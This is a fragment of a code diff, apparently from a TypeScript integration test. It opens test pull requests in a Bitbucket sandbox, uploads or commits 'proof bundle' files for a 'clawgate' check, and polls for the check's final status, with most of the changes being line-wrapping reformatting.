+    message: `${c.name}: work`,
+    files: c.files,
+  });
   const bundle = c.bundle(work.hash);
   let head = work.hash;
   let description = `Opened by ${c.author.nickname}.`;
@@ -372,15 +655,29 @@ async function openCase(
     if (c.upload) {
       await api(clawgate.url, 'POST', '/api/v1/workspaces/acme/bundles', bearer, { bundle: bundle.envelope });
     } else {
-      const added = sandbox.commit('acme/proj-web', { branch: c.branch, author: c.author.nickname, message: `Add proof bundle ${bundle.bundleId}`, files: { '.clawsig/proof_bundle.json': `${JSON.stringify(bundle.envelope, null, 2)}\n` } });
+      const added = sandbox.commit('acme/proj-web', {
+        branch: c.branch,
+        author: c.author.nickname,
+        message: `Add proof bundle ${bundle.bundleId}`,
+        files: { '.clawsig/proof_bundle.json': `${JSON.stringify(bundle.envelope, null, 2)}\n` },
+      });
       head = added.hash;
     }
   }
-  const pr = sandbox.openPullRequest('acme/proj-web', { source: c.branch, author: c.author.nickname, title: c.name, description });
+  const pr = sandbox.openPullRequest('acme/proj-web', {
+    source: c.branch,
+    author: c.author.nickname,
+    title: c.name,
+    description,
+  });
   c.cases.push({ ...c.expect, name: c.name, prId: pr.id, head });
 }
 
-async function waitForFinalStatus(sandbox: BitbucketSandbox, head: string, deadline: number): Promise<JsonObject | undefined> {
+async function waitForFinalStatus(
+  sandbox: BitbucketSandbox,
+  head: string,
+  deadline: number,
+): Promise<JsonObject | undefined> {
   for (;;) {
     const status = sandbox.getStatuses('acme/proj-web', head).find((s) => s.key === 'clawgate');
     if (status && status.state !== 'INPROGRESS') return status;
